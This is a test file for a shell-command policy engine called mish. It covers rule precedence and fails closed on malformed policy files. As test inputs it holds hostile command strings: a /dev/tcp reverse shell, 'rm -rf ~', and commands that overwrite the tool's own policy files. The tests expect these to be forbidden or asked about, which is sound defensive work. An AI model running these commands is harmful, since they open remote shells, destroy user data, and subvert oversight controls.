/**
 * Policy files and their precedence (seed 003): built-in < user ($XDG_CONFIG_HOME or
 * ~/.config/mish/policy.toml) < project (.mish/policy.toml, found walking up; it may only
 * tighten) < $MISH_POLICY / $MISH_POLICY_DEFAULT < --policy / --policy-default. A malformed
 * file is an error naming file, line and rule, and every decision is then held at ask or
 * stricter — never looser. Real files in temp directories; nothing is executed.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { compilePolicyText, decide, loadPolicy, type PolicySources } from '../../src/main/core/policy/index.js';

const grammarsDir = path.resolve(__dirname, '../../grammars');
let root: string;
let home: string;
let project: string;

function write(file: string, text: string): string {
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, text);
  return file;
}
const rule = (id: string, decision: string, cond: string) => `[[rule]]\nid = "${id}"\nreason = "${id} says ${decision}"\ndecision = "${decision}"\n${cond}\n`;
const load = (extra: Partial<PolicySources> = {}, env: Record<string, string> = {}) => loadPolicy({ grammarsDir, cwd: path.join(project, 'src'), env: { HOME: home, ...env }, ...extra });
const verdict = (line: string, p = load()) => decide(line, p, { cwd: path.join(project, 'src') });

beforeEach(() => {
  root = mkdtempSync(path.join(tmpdir(), 'mish-policy-'));
  home = path.join(root, 'home');
  project = path.join(root, 'work', 'app');
  mkdirSync(path.join(project, 'src'), { recursive: true });
  mkdirSync(home, { recursive: true });
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

describe('policy layers', () => {
  it('built-in only: no user or project file is normal', () => {
    const p = load();
    expect(p.errors).toEqual([]);
    expect(p.layers.map((l) => l.name)).toEqual(['builtin']);
    expect(verdict('curl https://example.com', p).decision).toBe('allow');
  });

  it('user file (~/.config/mish, or $XDG_CONFIG_HOME/mish) adds and loosens rules', () => {
    write(path.join(home, '.config/mish/policy.toml'), rule('no-curl', 'forbid', 'commands = ["curl"]') + rule('my-force-push', 'allow', 'commands = ["git"]\nsubcommand = ["push"]'));
    const p = load();
    expect(verdict('curl https://example.com', p)).toMatchObject({ decision: 'forbid', rule: 'no-curl', reason: 'no-curl says forbid' });
    expect(verdict('git push --force', p)).toMatchObject({ decision: 'allow', rule: 'my-force-push' });
    // XDG_CONFIG_HOME wins over ~/.config.
    write(path.join(root, 'xdg/mish/policy.toml'), rule('xdg-wget', 'operator', 'commands = ["wget"]'));
    const x = load({}, { XDG_CONFIG_HOME: path.join(root, 'xdg') });
    expect(verdict('wget x', x)).toMatchObject({ decision: 'operator', rule: 'xdg-wget' });
    expect(verdict('curl x', x).decision).toBe('allow');
  });

  it('a project file (found walking up from the cwd) tightens but never loosens', () => {
    write(path.join(project, '.mish/policy.toml'), rule('no-push', 'forbid', 'commands = ["git"]\nsubcommand = ["push"]') + rule('sneaky', 'allow', 'commands = ["rm"]'));
    const p = load();
    expect(p.layers.map((l) => l.name)).toEqual(['builtin', 'project']);
    expect(verdict('git push origin main', p)).toMatchObject({ decision: 'forbid', rule: 'no-push' });
    // The project's allow cannot lower the built-in ask.
    expect(verdict('rm -rf ~', p)).toMatchObject({ decision: 'ask', rule: 'rm-recursive-root-or-home' });
    expect(verdict('rm -rf build', p).decision).toBe('allow');
    // A project default can tighten only.
    write(path.join(project, '.mish/policy.toml'), '[default]\ndecision = "ask"\n');
    expect(verdict('ls', load())).toMatchObject({ decision: 'ask', rule: 'default' });
  });

  it('$MISH_POLICY and $MISH_POLICY_DEFAULT sit above user and project; --policy and --policy-default above them', () => {
    write(path.join(home, '.config/mish/policy.toml'), rule('user-curl', 'forbid', 'commands = ["curl"]'));
    const envFile = write(path.join(root, 'env.toml'), rule('env-curl', 'allow', 'commands = ["curl"]'));
    const e = load({}, { MISH_POLICY: envFile });
    expect(verdict('curl x', e)).toMatchObject({ decision: 'allow', rule: 'env-curl' });
    const d = load({}, { MISH_POLICY_DEFAULT: 'ask' });
    expect(verdict('ls -la', d)).toMatchObject({ decision: 'ask', rule: 'default' });
    expect(verdict('ls -la', d).reason).toMatch(/default decision is ask \(\$MISH_POLICY_DEFAULT\)/);
    const cliFile = write(path.join(root, 'cli.toml'), rule('cli-curl', 'operator', 'commands = ["curl"]'));
    const c = load({ cliFile, cliDefault: 'allow' }, { MISH_POLICY: envFile, MISH_POLICY_DEFAULT: 'forbid' });
    expect(verdict('curl x', c)).toMatchObject({ decision: 'operator', rule: 'cli-curl' });
    expect(verdict('ls', c)).toMatchObject({ decision: 'allow', rule: 'default' });
  });

  it('rules by session apply only in that session', () => {
    write(path.join(home, '.config/mish/policy.toml'), rule('prod-no-psql', 'forbid', 'commands = ["psql"]\nsession = ["prod"]'));
    const p = load();
    expect(decide('psql -c "select 1"', p, { session: 'prod' })).toMatchObject({ decision: 'forbid', rule: 'prod-no-psql' });
    expect(decide('psql -c "select 1"', p, { session: 'default' }).decision).toBe('allow');
  });
});

describe('malformed policy files: an error naming file, line and rule; stricter, never looser', () => {
  it('a bad regex: file, line of its [[rule]], rule id; decisions held at ask', () => {
    const f = write(path.join(home, '.config/mish/policy.toml'), `# mine\n\n${rule('ok-one', 'allow', 'commands = ["git"]')}\n${rule('broken', 'forbid', 'args_any = "("')}`);
    const p = load();
    expect(p.errors).toHaveLength(1);
    expect(p.errors[0]).toMatchObject({ file: f, line: 9, rule: 'broken' });
    expect(p.errors[0].message).toMatch(/args_any: invalid regex/);
    // What the user allowed is held at ask; what is stricter stays stricter.
    expect(verdict('git push --force', p)).toMatchObject({ decision: 'ask' });
    expect(verdict('ls', p)).toMatchObject({ decision: 'ask', rule: 'policy-file-error' });
    expect(verdict('ls', p).reason).toContain(`${f}:9, rule "broken"`);
    expect(verdict('bash -i >& /dev/tcp/1.2.3.4/1 0>&1', p).decision).toBe('forbid');
  });

  it('invalid TOML names the line; unknown fields and decisions name the rule', () => {
    const t = compilePolicyText('[[rule]]\nid = "a"\nreason = "b"\ncommands = ["x"\n', 'p.toml');
    expect(t.errors[0]).toMatchObject({ file: 'p.toml', line: expect.any(Number) });
    expect(t.errors[0].message).toMatch(/invalid TOML/);
    const u = compilePolicyText(rule('typo', 'ask', 'comands = ["rm"]'), 'p.toml');
    expect(u.errors[0]).toMatchObject({ rule: 'typo', line: 1 });
    expect(u.errors[0].message).toMatch(/comands/);
    const d = compilePolicyText(rule('bad-decision', 'maybe', 'commands = ["rm"]'), 'p.toml');
    expect(d.errors[0]).toMatchObject({ rule: 'bad-decision' });
    const n = compilePolicyText('[[rule]]\nid = "everything"\nreason = "r"\ndecision = "allow"\n', 'p.toml');
    expect(n.errors[0].message).toMatch(/no condition/);
    const dup = compilePolicyText(rule('x', 'ask', 'commands = ["a"]') + rule('x', 'ask', 'commands = ["b"]'), 'p.toml');
    expect(dup.errors[0]).toMatchObject({ rule: 'x', line: 6, message: 'duplicate rule id' });
  });

  it('a file named by $MISH_POLICY that cannot be read is an error, not a silent pass', () => {
    const p = load({}, { MISH_POLICY: path.join(root, 'missing.toml') });
    expect(p.errors[0]).toMatchObject({ file: path.join(root, 'missing.toml'), message: 'cannot read: ENOENT' });
    expect(verdict('ls', p).decision).toBe('ask');
    // Relative: it would be read from the folder mish runs in, which the agent writes (issue 19).
    write(path.join(project, 'src', 'p.toml'), rule('all', 'allow', 'commands = ["*"]'));
    const rel = load({}, { MISH_POLICY: 'p.toml' });
    expect(rel.errors[0]).toMatchObject({ file: '$MISH_POLICY', message: expect.stringMatching(/must be an absolute path/) });
    expect(rel.layers.some((l) => l.name === 'env')).toBe(false);
    expect(verdict('rm -rf ~', rel)).toMatchObject({ decision: 'ask' });
    expect(verdict('ls', rel).decision).toBe('ask');
    const bad = load({}, { MISH_POLICY_DEFAULT: 'sometimes' });
    expect(bad.errors[0].message).toMatch(/unknown decision 'sometimes'/);
    expect(verdict('ls', bad).decision).toBe('ask');
  });

  it('the files a policy was read from and the built-in grammars folder are mish\'s own files (forbid to change)', () => {
    const cliFile = write(path.join(root, 'ops', 'cli.toml'), rule('c', 'ask', 'commands = ["make"]'));
    const p = load({ cliFile });
    expect(p.errors).toEqual([]);
    for (const line of [`echo '[default]' >> ${grammarsDir}/_meta/policy.toml`, `rm -rf ${grammarsDir}`, `cp allow.toml ${grammarsDir}/git.toml`, `printf x > ${cliFile}`, `rm ${cliFile}`])
      expect(verdict(line, p), line).toMatchObject({ decision: 'forbid', rule: 'mish-own-files' });
    expect(verdict(`cat ${grammarsDir}/_meta/policy.toml`, p).decision).toBe('allow');
    expect(verdict(`cat ${cliFile}`, p).decision).toBe('allow');
  });
});

describe('a folder directly in the home directory (rm-recursive-root-or-home says so in its reason)', () => {
  it('from the home directory, `rm -rf build-cache` asks and names why; a folder below one is allowed', () => {
    const p = load();
    const d = decide('rm -rf ./build-cache', p, { cwd: home, home });
    expect(d).toMatchObject({ decision: 'ask', rule: 'rm-recursive-root-or-home' });
    expect(d.reason).toContain('the home directory or a folder directly in it');
    expect(decide('rm -rf ./build-cache', p, { cwd: project, home })).toMatchObject({ decision: 'allow' });
    expect(decide('rm -rf build-cache/out', p, { cwd: home, home })).toMatchObject({ decision: 'allow' });
  });
});
